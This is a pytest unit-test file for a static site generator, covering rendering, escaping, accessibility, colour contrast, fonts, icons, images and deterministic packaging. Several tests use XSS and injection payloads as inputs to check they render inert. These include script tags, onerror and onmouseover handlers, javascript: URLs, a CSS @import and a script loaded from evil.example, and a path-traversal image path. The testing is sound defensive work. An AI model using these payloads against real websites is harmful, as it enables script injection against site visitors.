"""Rendering: escaped, complete, and byte-identical for the same spec."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pydantic import BaseModel

from hotstack_build.domain.icons import bundled, icon_name, icon_svg, licence
from hotstack_build.domain.package import deterministic_zip
from hotstack_build.domain.render import RenderError, render_site
from hotstack_build.domain.slugs import candidates, slugify
from hotstack_build.domain.theme import (
    DESIGNS,
    THEMES,
    contrast_pairs,
    design_of,
    readable_colours,
    theme_for,
)
from hotstack_contracts import (
    Contact,
    ContactSection,
    Directive,
    DirectiveKind,
    FormKind,
    GallerySection,
    HeroSection,
    HoursSection,
    Image,
    Intent,
    Item,
    ListSection,
    MenuSection,
    Opening,
    Page,
    Palette,
    PeopleSection,
    Person,
    Phone,
    PhoneLabel,
    Plan,
    PlansSection,
    PostalAddress,
    Price,
    ProductsSection,
    Rendition,
    ScheduleEntry,
    ScheduleSection,
    Section,
    ServicesSection,
    SiteSpec,
    SiteType,
    Source,
    TextSection,
    Weekday,
    standard_form,
)
from hotstack_contracts.colour import contrast

pytestmark = pytest.mark.unit

INTENT = Intent(
    site_type=SiteType.RESTAURANT,
    business_name="Tom & Jerry's <Diner>",
    tagline="Pies since 1990",
    audience="",
    tone="warm",
    features=["contact_form"],
    palette=Palette(primary="#7a2e1f", accent="#9a6b00", background="#fdf8f2", text="#231a16"),
    contact=Contact(
        emails=["hi@diner.test"], phones=[Phone(number="+442079460000", display="020 7946 0000")]
    ),
)
SPEC = SiteSpec(
    pages=[
        Page(
            slug="index",
            title="Home",
            sections=[
                HeroSection(heading="Tom & Jerry's <Diner>", body="Pies since 1990"),
                ListSection(heading="Menu", items=["<script>alert(1)</script>", "Pie"]),
                ContactSection(
                    heading="Contact", emails=INTENT.contact.emails, phones=INTENT.contact.phones
                ),
                standard_form(FormKind.CONTACT),
            ],
        ),
        Page(
            slug="about",
            title="About",
            sections=[TextSection(heading="Story", body="A.\n\nB.")],
        ),
    ]
)


GBP9 = Price(amount_minor=900, currency="GBP", text="£9")


def render() -> dict[str, bytes]:
    files = render_site(INTENT, SPEC, site_url="https://h.test/sites/diner/")
    return {f.path: f.content for f in files}


def test_site_has_pages_stylesheet_sitemap_robots_and_404() -> None:
    files = render()
    assert sorted(files) == [
        "404.html",
        "410.html",
        "about.html",
        "art.svg",
        "favicon.svg",
        # The bistro design's two families, each with its licence.
        "fonts/fraunces-400.woff2",
        "fonts/fraunces-700.woff2",
        "fonts/fraunces-OFL.txt",
        "fonts/work-sans-400.woff2",
        "fonts/work-sans-700.woff2",
        "fonts/work-sans-OFL.txt",
        "index.html",
        # The site has a form: where its visitors land, told it was sent or why not.
        "not-sent.html",
        "og.svg",
        "robots.txt",
        "sent.html",
        "sitemap.xml",
        "styles.css",
    ]
    sitemap = files["sitemap.xml"].decode()
    assert "<loc>https://h.test/sites/diner/</loc>" in sitemap
    assert "<loc>https://h.test/sites/diner/about.html</loc>" in sitemap
    assert "Sitemap: https://h.test/sites/diner/sitemap.xml" in files["robots.txt"].decode()
    assert "--primary: #7a2e1f;" in files["styles.css"].decode()
    assert "410.html" not in sitemap
    assert "sent.html" not in sitemap
    for answer in ("sent.html", "not-sent.html"):
        assert '<meta name="robots" content="noindex">' in files[answer].decode()
    gone = files["410.html"].decode()
    assert '<h1 class="hero-title">This site is no longer online</h1>' in gone
    assert "<nav" not in gone


def test_content_from_the_brief_is_escaped() -> None:
    home = render()["index.html"].decode()
    assert "<script>alert(1)</script>" not in home
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in home
    assert "Tom &amp; Jerry&#39;s &lt;Diner&gt;" in home


def test_every_page_has_lang_one_h1_and_a_main_landmark() -> None:
    for path, content in render().items():
        if path.endswith(".html"):
            html = content.decode()
            assert '<html lang="en">' in html
            assert html.count("<h1") <= 1
            assert '<main id="main">' in html


def test_form_fields_are_labelled() -> None:
    home = render()["index.html"].decode()
    for field in ("name", "email", "message"):
        assert f'<label for="contact-form-{field}">' in home
        assert f'id="contact-form-{field}"' in home
    assert 'href="tel:+442079460000">020 7946 0000</a>' in home


def test_same_spec_gives_a_byte_identical_artifact() -> None:
    first = deterministic_zip(render())
    second = deterministic_zip(render())
    assert hashlib.sha256(first).digest() == hashlib.sha256(second).digest()
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert archive.namelist() == sorted(render())
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_spec_without_home_page_is_refused() -> None:
    spec = SiteSpec(pages=[Page(slug="about", title="About", sections=[])])
    with pytest.raises(RenderError, match="home page"):
        render_site(INTENT, spec, site_url="https://h.test/")


@pytest.mark.parametrize(
    ("name", "slug"),
    [
        ("Paws & Whiskers Rescue", "paws-whiskers-rescue"),
        ("Café Ñandú", "cafe-nandu"),
        ("!!!", "site"),
    ],
)
def test_slugs_are_readable_ascii(name: str, slug: str) -> None:
    assert slugify(name) == slug


def test_slug_candidates_number_on_collision() -> None:
    assert candidates("Blue Door")[:3] == ["blue-door", "blue-door-2", "blue-door-3"]


@pytest.mark.parametrize(
    ("primary", "accent", "background", "text"),
    [
        ("#ffff00", "#87ceeb", "#ffffff", "#999999"),  # yellow, sky blue and grey on white
        ("#222222", "#333333", "#111111", "#2a2a2a"),  # dark on dark
        ("#ff7f50", "#ffd700", "#fffdd0", "#c0c0c0"),  # coral and gold on cream
    ],
)
def test_palettes_that_fail_contrast_are_adjusted_in_the_stylesheet(
    primary: str, accent: str, background: str, text: str
) -> None:
    palette = Palette(primary=primary, accent=accent, background=background, text=text)
    assert contrast(primary, background) < 4.5
    colours = readable_colours(palette)
    assert all(ratio >= 4.5 for ratio in contrast_pairs(colours).values())
    assert contrast(colours.text, colours.background) >= 7.0
    intent = INTENT.model_copy(update={"palette": palette})
    files = render_site(intent, SPEC, site_url="https://h.test/")
    css = next(f.content.decode() for f in files if f.path == "styles.css")
    assert f"--primary: {colours.primary};" in css
    assert f"--text: {colours.text};" in css
    assert f"--primary: {primary};" not in css


def test_each_archetype_gets_its_design_and_the_designs_differ() -> None:
    styles = {}
    for site_type in SiteType:
        intent = INTENT.model_copy(update={"site_type": site_type})
        files = render_site(intent, SPEC, site_url="https://h.test/")
        css = next(f.content.decode() for f in files if f.path == "styles.css")
        home = next(f.content.decode() for f in files if f.path == "index.html")
        assert f'class="theme-{theme_for(site_type)}"' in home
        styles[theme_for(site_type)] = css
    assert len(styles) >= 6
    assert len(set(styles.values())) == len(styles)


def test_section_ids_are_unique_and_keep_the_anchors_the_hero_links_to() -> None:
    spec = SiteSpec(
        pages=[
            Page(
                slug="index",
                title="Home",
                sections=[
                    HeroSection(heading="Ledgerly", body="Books done."),
                    TextSection(heading="Pricing", body="Simple and fair."),
                    PlansSection(
                        heading="Plans",
                        plans=[Plan(name="Solo", price=GBP9), Plan(name="Team", price=GBP9)],
                    ),
                    GallerySection(heading="Gallery", items=[Item(name="A"), Item(name="B")]),
                    GallerySection(heading="Gallery", items=[Item(name="C")]),
                    TextSection(heading="Contact", body="Write to us."),
                ],
            )
        ]
    )
    intent = INTENT.model_copy(update={"site_type": SiteType.PRODUCT})
    files = render_site(intent, spec, site_url="https://h.test/")
    home = next(f.content.decode() for f in files if f.path == "index.html")
    ids = re.findall(r'\bid="([^"]+)"', home)
    assert len(ids) == len(set(ids)), ids
    assert 'id="pricing"' in home  # the plans, where "See pricing" points
    assert 'href="#pricing"' in home
    assert ids.count("gallery") == 1


def _home(intent: Intent, *sections: BaseModel, language: str = "en") -> str:
    spec = SiteSpec.model_validate(
        {
            "language": language,
            "pages": [
                {"slug": "index", "title": "Home", "sections": [s.model_dump() for s in sections]}
            ],
        }
    )
    files = render_site(intent, spec, site_url="https://h.test/")
    return next(f.content.decode() for f in files if f.path == "index.html")


def test_typed_sections_render_as_what_they_are() -> None:
    home = _home(
        INTENT,
        HeroSection(
            heading="Diner",
            when=ScheduleEntry(
                title="Opening night", date=dt.date(2027, 3, 5), until=dt.date(2027, 3, 7)
            ),
        ),
        MenuSection(heading="Menu", items=[Item(name="Pie", description="steak", price=GBP9)]),
        PeopleSection(
            heading="Team",
            people=[Person(name="Ada Lovelace", role="Chef", credentials="MBE", bio="Cooks.")],
        ),
        HoursSection(
            heading="Hours",
            week=[Opening(day=Weekday.MONDAY, opens=dt.time(9), closes=dt.time(17))],
        ),
        ScheduleSection(
            heading="Events",
            entries=[
                ScheduleEntry(
                    title="Quiz",
                    date=dt.date(2027, 4, 1),
                    starts=dt.time(19, 30),
                    venue="Back room",
                )
            ],
        ),
    )
    # three days, as CLDR writes a range (thin spaces around the dash)
    assert '<time datetime="2027-03-05">Mar 5\u2009\u2013\u20097, 2027</time>' in home
    assert '<dt>Pie <span class="detail">steak</span></dt><dd>£9</dd>' in home
    assert '<h3>Ada Lovelace<span class="credentials">, MBE</span></h3>' in home
    assert '<tr><th scope="row">Monday</th><td>9:00\u202fAM\u20135:00\u202fPM</td></tr>' in home
    assert '<tr><th scope="row">Sunday</th><td>Closed</td></tr>' in home
    assert "<strong>Quiz</strong> · Back room" in home


def test_the_site_speaks_its_language() -> None:
    intent = INTENT.model_copy(update={"contact": Contact(emails=["hola@pan.es"])})
    home = _home(
        intent,
        HeroSection(heading="Pan"),
        HoursSection(
            heading="Horario",
            week=[Opening(day=Weekday.SATURDAY, opens=dt.time(8), closes=dt.time(14))],
        ),
        ContactSection(heading="Contacto", emails=["hola@pan.es"]),
        standard_form(FormKind.BOOKING, "es"),
        language="es",
    )
    assert '<html lang="es">' in home
    assert "Ir al contenido" in home
    assert "Skip to content" not in home
    assert '<th scope="row">Sábado</th><td>8:00\u201314:00</td>' in home
    assert "Correo: <a" in home
    assert ">Tu nombre</label>" in home
    assert ">Enviar solicitud</button>" in home
    assert '<a class="button" href="#booking">Reserva mesa</a>' in home


def test_the_number_asked_to_stand_out_is_in_the_hero() -> None:
    emergency = Phone(number="+14155550199", display="(415) 555-0199", label=PhoneLabel.EMERGENCY)
    intent = INTENT.model_copy(
        update={
            "contact": Contact(
                phones=[Phone(number="+14155550123", display="(415) 555-0123"), emergency]
            ),
            "directives": [
                Directive(
                    kind=DirectiveKind.EMPHASIS,
                    value="emergency_phone",
                    source=Source(origin="prompt", text="make the emergency line stand out"),
                )
            ],
        }
    )
    home = _home(
        intent,
        HeroSection(heading="Vet"),
        ContactSection(heading="Contact", phones=intent.contact.phones),
    )
    hero = home.split("</section>")[0]
    assert 'Emergency: <a href="tel:+14155550199">(415) 555-0199</a>' in hero
    assert '<li class="emphasis">Emergency: <a href="tel:+14155550199">' in home


class _Tags(HTMLParser):
    """The tags and attributes a browser would see in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


EVIL = (
    "Evil */ @import url(http://evil.example/x.css); body{background:url(http://evil.example/t.png)}"
    ' /* "><script src=http://evil.example/x.js></script><img src=x onerror=alert(1)>'
)


def test_hostile_values_in_every_field_stay_inert_in_every_file() -> None:
    """What a partner's event (or a model's answer) may put in a spec reaches HTML, attribute,
    URL, SVG and CSS contexts: nothing in it may load, run or restyle anything."""
    intent = INTENT.model_copy(
        update={
            "business_name": EVIL[:120],
            "tagline": EVIL[:300],
            "contact": Contact(
                emails=['x@y" onmouseover="alert(1)'],
                phones=[Phone(display='javascript:alert(1)" x="')],
                addresses=[PostalAddress(lines=[EVIL[:200]], label=EVIL[:60])],
            ),
        }
    )
    sections: list[Section] = [
        HeroSection(heading=EVIL[:200], body=EVIL),
        TextSection(heading=EVIL[:200], body=EVIL),
        ListSection(heading="Menu", items=[EVIL]),
        MenuSection(heading="Menu", items=[Item(name=EVIL[:200], description=EVIL, price=GBP9)]),
        GallerySection(
            heading="Work",
            images=[
                Image(src="http://evil.example/t.png", alt=EVIL[:300]),
                Image(src="//evil.example/t.png"),
                Image(src="javascript:alert(1)"),
                Image(src="../../secret.png"),
                Image(src="photos/barn.jpg", alt="The barn"),
            ],
        ),
        ContactSection(heading=EVIL[:200], lines=[EVIL[:300]], emails=intent.contact.emails),
    ]
    files = render_site(
        intent,
        SiteSpec(pages=[Page(slug="index", title=EVIL[:200], sections=sections)]),
        site_url="https://h.test/",
    )
    fonts = [file for file in files if file.path.startswith("fonts/")]
    assert fonts  # shipped from the project, byte for byte: nothing of the spec enters them
    for file in files:
        if file in fonts:
            continue
        text = file.content.decode()
        if file.path.endswith((".html", ".svg")):
            tags = _Tags()
            tags.feed(text)
            assert "script" not in tags.names, file.path
            for name, value in tags.attributes:
                assert not name.startswith("on"), (file.path, name)  # no event handler
                if name in ("src", "href", "action"):
                    # only the site itself, relative paths, mail and phone links
                    assert re.match(r"(?:https://h\.test/|mailto:|tel:|[\w#.])", value), value
                    assert not value.lower().startswith(("javascript:", "//")), value
    css = next(f.content.decode() for f in files if f.path == "styles.css")
    assert "@import" not in css
    # The only URLs in it are the design's own fonts, served beside it.
    assert set(re.findall(r"url\(([^)]*)\)", css)) == {
        f'"{f.path}"' for f in fonts if f.path.endswith(".woff2")
    }
    assert "Evil" not in css  # nothing the customer typed enters the stylesheet
    home = next(f.content.decode() for f in files if f.path == "index.html")
    # No picture the site does not ship: not the outside or escaping references, and not
    # the brief's own photo either (its file is not carried into sites), only the design's.
    assert re.findall(r"<img [^>]*>", home) == [
        '<img class="hero-art" src="art.svg" alt="" width="480" height="360">'
    ]


def test_every_archetype_has_a_design_of_its_own_with_at_most_two_shipped_families() -> None:
    assert sorted(set(THEMES.values())) == sorted(DESIGNS)
    assert len(set(THEMES.values())) == len(SiteType)  # no archetype wears another's design
    for name, design in DESIGNS.items():
        assert 1 <= len(design.families) <= 2, name
        templates = Path(__file__).parents[1] / "src/hotstack_build/templates/themes"
        assert (templates / f"{name}.css").is_file(), name
        assert design_of(name) is design


def test_fonts_ship_with_their_licence_swap_in_and_are_preloaded() -> None:
    files = render()
    css = files["styles.css"].decode()
    home = files["index.html"].decode()
    for family in ("fraunces", "work-sans"):
        assert files[f"fonts/{family}-400.woff2"][:4] == b"wOF2"
        assert "SIL Open Font License" in files[f"fonts/{family}-OFL.txt"].decode()
    assert css.count("font-display: swap") == 4  # two families, two weights
    assert '<link rel="preload" href="fonts/work-sans-400.woff2" as="font"' in home
    assert '<link rel="preload" href="fonts/fraunces-700.woff2" as="font"' in home


def test_every_design_has_generated_art_in_its_palette_and_nothing_else() -> None:
    from xml.etree import ElementTree

    from hotstack_build.domain.art import MOTIFS, hero_art

    colours = readable_colours(INTENT.palette)
    pictures = {theme: hero_art(theme, "Luna Café", colours) for theme in DESIGNS}
    assert set(MOTIFS) == set(DESIGNS)
    for theme, svg in pictures.items():
        root = ElementTree.fromstring(svg)  # well-formed
        assert root.get("viewBox") == "0 0 480 360"
        assert len(root) >= 5, theme  # a composition, not a blank
        used = set(re.findall(r'(?:fill|stroke)="(#[0-9a-f]{6}|none)"', svg))
        assert used - {"none"} <= set(vars(colours).values()), theme
        assert "Luna" not in svg  # nothing typed…
        assert "href" not in svg  # …and nothing fetched
        assert hero_art(theme, "Luna Café", colours) == svg  # same name, same picture
    assert hero_art("haven", "Other", colours) != pictures["haven"]


def test_every_address_links_to_the_map_and_the_footer_lists_each_location() -> None:
    from hotstack_build.domain.render import map_link

    places = [
        PostalAddress(lines=["40 Gresham Street, London EC2V 7BB"], label="London"),
        PostalAddress(lines=["12 King Street", "Manchester M2 6AG"], label="Manchester"),
    ]
    intent = INTENT.model_copy(
        update={"contact": INTENT.contact.model_copy(update={"addresses": places})}
    )
    spec = SiteSpec(
        pages=[Page(slug="index", title="Home", sections=[ContactSection(heading="Visit")])]
    )
    spec.pages[0].sections[0] = spec.pages[0].sections[0].model_copy(update={"addresses": places})
    home = next(
        f.content.decode()
        for f in render_site(intent, spec, site_url="https://h.test/")
        if f.path == "index.html"
    )
    link = map_link(places[1])
    assert link == (
        "https://www.openstreetmap.org/search?query=12+King+Street%2C+Manchester+M2+6AG"
    )
    footer = home.split('<footer class="site-footer">')[1]
    assert footer.count("openstreetmap.org") == 2  # both offices, each with its label
    assert "Manchester: <a" in footer
    assert home.split("<footer")[0].count(f'href="{link}"') == 1  # and in the contact section


def home_only(*sections: Section) -> SiteSpec:
    """A spec of one page, the home page, with these sections."""
    return SiteSpec(pages=[Page(slug="index", title="Home", sections=list(sections))])


def _photo(name: str, *, alt: str = "", caption: str = "") -> Image:
    key = f"acme/uploads/up_1/pictures/{name}"
    return Image(
        src=f"word/media/{name}.jpg",
        alt=alt,
        caption=caption,
        width=1600,
        height=1067,
        renditions=[
            Rendition(key=f"{key}-480.webp", media_type="image/webp", width=480, height=320),
            Rendition(key=f"{key}-1600.webp", media_type="image/webp", width=1600, height=1067),
            Rendition(key=f"{key}-960.jpeg", media_type="image/jpeg", width=960, height=640),
        ],
    )


def _files_of(*images: Image) -> dict[str, bytes]:
    return {r.key: r.key.encode() for image in images for r in image.renditions}


def test_pictures_are_rendered_in_responsive_sizes_with_their_files() -> None:
    hero, shop, work = (
        _photo("hero", alt="The bakery"),
        _photo("shop"),
        _photo("work", alt="Loaves"),
    )
    spec = home_only(
        HeroSection(heading="Crumb", images=[hero]),
        TextSection(heading="Our shop", body="Since 1990.", images=[shop]),
        GallerySection(heading="Work", images=[work.model_copy(update={"caption": "Loaves"})]),
    )
    files = render_site(
        INTENT, spec, site_url="https://h.test/",
        pictures=_files_of(hero, shop, work),
    )  # fmt: skip
    by_path = {f.path: f for f in files}
    home = by_path["index.html"].content.decode()
    assert by_path["images/hero-480.webp"].content == b"acme/uploads/up_1/pictures/hero-480.webp"
    assert by_path["images/hero-480.webp"].content_type == "image/webp"
    assert by_path["images/work-960.jpeg"].content_type == "image/jpeg"
    assert len([p for p in by_path if p.startswith("images/")]) == 9
    hero_html = home.split('<section class="hero')[1].split("</section>")[0]
    assert 'srcset="images/hero-480.webp 480w, images/hero-1600.webp 1600w"' in hero_html
    assert '<img src="images/hero-960.jpeg" width="960" height="640" alt="The bakery"' in hero_html
    assert "loading=" not in hero_html
    assert "art.svg" not in hero_html
    shop_html = home.split("<p>Since 1990.</p>")[1]
    assert 'src="images/shop-960.jpeg"' in shop_html.split("</section>")[0]
    assert 'loading="lazy"' in shop_html.split("</section>")[0]
    # A caption that says what the alt text says is the picture's description, read once.
    gallery = home.split("block-gallery")[1].split("</section>")[0]
    assert 'alt="" loading="lazy"' in gallery
    assert "<figcaption>Loaves</figcaption>" in gallery


def test_a_picture_whose_files_are_not_all_there_is_left_out() -> None:
    whole, torn = _photo("whole"), _photo("torn")
    pictures = _files_of(whole, torn)
    del pictures["acme/uploads/up_1/pictures/torn-1600.webp"]
    spec = home_only(
        HeroSection(heading="Crumb", images=[torn]),
        TextSection(heading="Us", body="Hello.", images=[whole, torn]),
    )
    files = render_site(INTENT, spec, site_url="https://h.test/", pictures=pictures)
    home = next(f.content.decode() for f in files if f.path == "index.html")
    assert home.count("<picture") == 1
    assert "torn" not in home
    assert 'src="art.svg"' in home  # the hero falls back to its drawn art
    assert not any("torn" in f.path for f in files)


@pytest.mark.parametrize(
    ("name", "description", "icon"),
    [
        ("Haircuts and colour", "", "scissors"),
        ("Corte de pelo", "", "scissors"),
        ("Coupe et brushing", "", "scissors"),
        ("Dog grooming", "", "paw-print"),
        ("Catering for weddings", "", "chef-hat"),  # not a cat
        ("Spanish lessons", "", "languages"),  # not a spa
        ("EV charger installation", "", "zap"),
        ("Fontanería urgente", "", "droplet"),
        ("Vaccinations", "Puppies and kittens", "syringe"),
        ("Conveyancing", "Buying or selling a home", "building-2"),
        ("Commercial litigation", "", "gavel"),
        ("Déclaration d'impôts", "", "calculator"),
        ("Nachhilfe", "Mathe und Englisch", "calculator"),
        ("Something else entirely", "", "circle-check"),
    ],
)
def test_each_service_gets_the_icon_of_what_it_is(name: str, description: str, icon: str) -> None:
    assert icon_name(name, description) == icon


def test_every_icon_the_table_can_choose_is_bundled_with_its_licence() -> None:
    for icon in bundled():
        svg = icon_svg(icon)
        assert svg.startswith('<svg class="icon"')
        assert 'aria-hidden="true"' in svg
        assert "<path" in svg or "<circle" in svg or "<rect" in svg, icon
    assert b"ISC License" in licence()


def test_service_cards_show_their_icons_and_the_site_carries_the_licence() -> None:

    spec = home_only(
        HeroSection(heading="Trim"),
        ServicesSection(
            heading="Services",
            items=[
                Item(name="Haircuts", description="Wash, cut and finish"),
                Item(name="Manicure", description="Shape and polish"),
                Item(name="Facials", description="Cleanse and glow"),
            ],
        ),
    )
    files = {f.path: f.content for f in render_site(INTENT, spec, site_url="https://h.test/")}
    home = files["index.html"].decode()
    cards = home.split('<ul class="cards cards-icons">')[1].split("</ul>")[0]
    assert cards.count('<svg class="icon"') == 3
    assert icon_svg("scissors") in cards
    assert b"Lucide" in files["icons/LICENSE.txt"]
    # A site without services carries no icons and no licence for them.
    assert "icons/LICENSE.txt" not in {
        f.path for f in render_site(INTENT, SPEC, site_url="https://h.test/")
    }


@pytest.mark.parametrize(
    ("language", "line"),
    [
        (
            "en",
            "Opening hours: Mon\u2013Fri 8:00\u202fAM\u20137:00\u202fPM"
            " · Sat 9:00\u202fAM\u20132:00\u202fPM",
        ),
        ("es", "Horario: Lun\u2013Vie 8:00\u201319:00 · Sáb 9:00\u201314:00"),
    ],
)
def test_every_page_s_footer_gives_the_week_s_hours_in_short(language: str, line: str) -> None:
    nine, two = dt.time(9), dt.time(14)
    week = [Opening(day=d, opens=dt.time(8), closes=dt.time(19)) for d in list(Weekday)[:5]]
    week.append(Opening(day=Weekday.SATURDAY, opens=nine, closes=two))
    spec = SiteSpec(
        language=language,
        pages=[
            Page(slug="index", title="Home", sections=[HeroSection(heading="Crumb")]),
            Page(slug="hours", title="Hours", sections=[HoursSection(heading="Hours", week=week)]),
        ],
    )
    files = render_site(INTENT, spec, site_url="https://h.test/")
    for page in ("index.html", "hours.html", "404.html"):
        html = next(f.content.decode() for f in files if f.path == page)
        footer = html.split('<footer class="site-footer">')[1]
        assert f'<p class="footer-hours">{line}</p>' in footer, footer[:400]


def test_a_product_s_photo_is_on_its_card_and_not_again_above_the_cards() -> None:
    mug, shop = _photo("mug", alt="A mug"), _photo("shop", alt="The shop")
    spec = home_only(
        HeroSection(heading="Fern"),
        ProductsSection(
            heading="What we make",
            items=[Item(name="Mug", price=GBP9, image=mug.src), Item(name="Throw")],
            images=[mug, shop],
        ),
    )
    files = render_site(
        INTENT, spec, site_url="https://h.test/",
        pictures=_files_of(mug, shop),
    )  # fmt: skip
    home = next(f.content.decode() for f in files if f.path == "index.html")
    section = home.split("block-products")[1].split("</section>")[0]
    cards = section.split('<ul class="cards">')[1].split("</ul>")[0]
    assert cards.count("<picture") == 1
    assert 'src="images/mug-960.jpeg"' in cards
    above = section.split('<ul class="cards">')[0]
    assert above.count("<picture") == 1
    assert "shop-960.jpeg" in above
